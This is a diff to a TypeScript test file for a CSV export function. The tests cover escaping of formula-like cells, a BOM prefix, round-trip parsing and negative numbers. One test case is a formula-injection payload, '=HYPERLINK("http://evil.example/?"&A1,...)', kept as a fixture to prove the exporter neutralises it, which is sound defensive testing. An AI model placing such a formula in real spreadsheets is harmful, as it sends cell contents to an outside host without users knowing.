@@ -19,7 +19,7 @@ it('names the cells by the first line', () => {
 })
 
 it('reads back every table, with any text in its cells', () => {
-  const cell = fc.string().filter((text) => !text.includes('\uFEFF'))
+  const cell = fc.string().filter((text) => !text.includes('\uFEFF') && !/^'+[=+\-@\t\r]/.test(text))
   const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`
   fc.assert(
     fc.property(fc.array(fc.tuple(cell, cell, fc.constant('x')), { minLength: 1 }), (table) => {
@@ -36,12 +36,28 @@ describe('an exported sheet', () => {
   it.each([
     ['=HYPERLINK("http://evil.example/?"&A1,"x")', `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`],
     ['+1', "'+1"],
-    ['-1', "'-1"],
+    ['-x', "'-x"],
+    ["'=1", "''=1"],
     ['@SUM(A1)', "'@SUM(A1)"],
     ['\t=1', "'\t=1"],
     ['\r=1', `"'\r=1"`],
   ])('writes %j as text', (name, cell) => {
-    expect(csvOf([{ name }])).toBe(`name\r\n${cell}`)
+    expect(csvOf([{ name }])).toBe(`\uFEFFname\r\n${cell}`)
+  })
+
+  it('is read back as it was, also where a text begins like a formula', () => {
+    const start = fc.constantFrom("'", "''", '=', '+', '-', '@', '\t', '\r', '-5', '+5', '+91 98765 43210', '0')
+    const text = fc.tuple(start, fc.string()).map((parts) => parts.join(''))
+    fc.assert(
+      fc.property(fc.array(fc.tuple(text, text), { minLength: 1 }), (table) => {
+        const [, ...read] = parseCsv(csvOf(table.map(([a, b]) => ({ a, b, c: 'x' }))))
+        expect(read).toEqual(table.map(([a, b]) => [a, b, 'x']))
+      }),
+    )
+  })
+
+  it('leaves a negative number as it is, and is known to Excel as Unicode', () => {
+    expect(csvOf([{ option: '-5' }, { option: '-0.5' }])).toBe('\uFEFFoption\r\n-5\r\n-0.5')
   })
 
   it('leaves numbers, other texts and what is missing as they are', () => {
@@ -50,17 +66,17 @@ describe('an exported sheet', () => {
         { amount: -250, title: 'Class 11, "PLUS"', at: null },
         { amount: 0, more: true },
       ]),
-    ).toBe('amount,title,at,more\r\n-250,"Class 11, ""PLUS""",,\r\n0,,,true')
+    ).toBe('\uFEFFamount,title,at,more\r\n-250,"Class 11, ""PLUS""",,\r\n0,,,true')
   })
 
   it('gives each part of a field a column of its own, and a list one cell', () => {
     expect(csvOf([{ title: { en: 'Maths', hi: 'गणित' }, grades: [11, 12] }])).toBe(
-      'title.en,title.hi,grades\r\nMaths,गणित,"[11,12]"',
+      '\uFEFFtitle.en,title.hi,grades\r\nMaths,गणित,"[11,12]"',
     )
   })
 
   it('writes a heading that would be a formula as text too', () => {
-    expect(csvOf([{ '=1': 'x' }])).toBe("'=1\r\nx")
+    expect(csvOf([{ '=1': 'x' }])).toBe("\uFEFF'=1\r\nx")
   })
 })
 
